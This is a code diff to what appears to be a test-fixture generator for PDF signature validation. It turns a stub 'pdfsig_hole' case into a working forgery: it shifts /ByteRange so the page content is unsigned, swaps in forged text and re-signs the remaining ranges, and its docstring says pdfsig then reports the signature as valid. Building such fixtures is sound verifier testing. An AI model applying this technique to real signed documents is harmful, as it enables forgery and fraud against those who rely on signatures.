@@ -133,17 +133,38 @@ def swa(data: bytes) -> bytes:
     return out
 
 
-def pdfsig_hole(data: bytes) -> bytes:
-    """/ByteRange [a b c d] with a > 0 (re-signed by the attacker's own CMS over those
-    ranges would be needed for a full forgery; here: the unsigned head is altered)."""
+def pdfsig_hole(data: bytes, who) -> bytes:
+    """The pdfsig hole: /ByteRange [a b c d] with a > 0. The attacker replaces the page
+    content (now in the unsigned head [0, a)) with a forged amount and signs the remaining
+    ranges with a fresh CMS; pdfsig reports "Signature is Valid"."""
+    from cryptography.hazmat.primitives import hashes
+    from cryptography.hazmat.primitives.serialization import pkcs7
+
+    r = PdfReader(io.BytesIO(data))
+    cnum = r.pages[0].raw_get("/Contents").idnum
+    off = r.xref[0][cnum]
+    a = data.index(b"endobj", off) + 6
     m = re.search(rb"/ByteRange\s*\[\s*0\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", data)
     b, c, d = (int(x) for x in m.groups())
-    a = data.index(b"stream", data.index(b"/Contents")) if False else 200
     new_br = b"/ByteRange [%d %d %d %d]" % (a, b - a, c, d)
     new_br += b" " * (len(m.group(0)) - len(new_br))
     out = bytearray(data[: m.start()] + new_br + data[m.end() :])
-    # alter the unsigned head: a different document title/amount in the first bytes
-    out[20:30] = b"9999999999"
+    forged = FORGED_TEXT + b"\n%"
+
+    def obj(n: int) -> bytes:
+        return (b"%d 0 obj\n<< /Length %010d >>\nstream\n" % (cnum, n) + forged
+                + b"x" * (n - len(forged)) + b"\nendstream\nendobj")
+
+    repl = obj(a - off - len(obj(len(forged))) + len(forged))
+    assert len(repl) == a - off
+    out[off:a] = repl
+    cms = pkcs7.PKCS7SignatureBuilder().set_data(bytes(out[a:b]) + bytes(out[c : c + d])) \
+        .add_signer(who.cert, who.key, hashes.SHA256()).sign(
+            serialization.Encoding.DER,
+            [pkcs7.PKCS7Options.DetachedSignature, pkcs7.PKCS7Options.NoCapabilities,
+             pkcs7.PKCS7Options.Binary])
+    hexed = cms.hex().encode()
+    out[b + 1 : c - 1] = hexed + b"0" * (c - b - 2 - len(hexed))
     return bytes(out)
 
 
@@ -316,7 +337,7 @@ def build(world, name: str) -> bytes:  # noqa: C901 - a flat table of cases
         "untrusted_tsa": lambda: sign(L, w.leader, timestamper=ts(w.foreign_tsa)),
         "trailing_garbage": lambda: s1() + b"\nGARBAGE AFTER EOF 1.250.000.000\n",
         "trailing_whitespace": lambda: s1() + b"\r\n\n",
-        "pdfsig_hole": lambda: pdfsig_hole(s1()),
+        "pdfsig_hole": lambda: pdfsig_hole(s1(), w.leader),
         "truncated": lambda: s1()[: len(s1()) // 2],
         "truncated_tail": lambda: s1()[:-40],
         "garbage": lambda: b"%PDF-1.7\n" + bytes(range(256)) * 40,
